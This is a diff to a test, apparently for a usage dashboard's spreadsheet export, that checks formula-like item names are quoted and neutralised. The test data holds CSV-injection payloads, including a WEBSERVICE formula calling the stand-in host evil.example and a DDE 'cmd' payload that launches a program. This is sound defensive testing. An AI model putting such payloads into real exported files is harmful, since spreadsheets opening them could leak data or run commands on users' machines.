@@ -45,8 +45,8 @@ for (const role of ["producer", "customer"]) {
 }
 
 test("the file for a spreadsheet has no formulas", async () => {
-  const names = ['=1+WEBSERVICE("//evil.example")', "+2+cmd|' /C calc'!A0", "-1-2", "@SUM(1)", "\t=1", "-12.5", "plain"];
-  const quoted = ["\"'=1+WEBSERVICE(\"\"//evil.example\"\")\"", "\"'+2+cmd|' /C calc'!A0\"", "\"'-1-2\"", "\"'@SUM(1)\"", "\"'\t=1\"", '"-12.5"', '"plain"'];
+  const names = ['=1+WEBSERVICE("//evil.example")', "+2+cmd|' /C calc'!A0", "-1-2", "@SUM(1)", "x;=1", "-12.5", "plain"];
+  const quoted = ["\"'=1+WEBSERVICE(\"\"//evil.example\"\")\"", "\"'+2+cmd|' /C calc'!A0\"", "\"'-1-2\"", "\"'@SUM(1)\"", "\"x;'=1\"", '"-12.5"', '"plain"'];
   const { person } = await arrive("?view=usage", {
     "usage/v1/aggregates": ({ by }) => ({
       buckets: by === "item" ? names.map((name) => bucket(name, 2)) : by === "item,day" ? names.map((name) => bucket([name, at(1)], 2)) : [bucket(at(1), 14)],
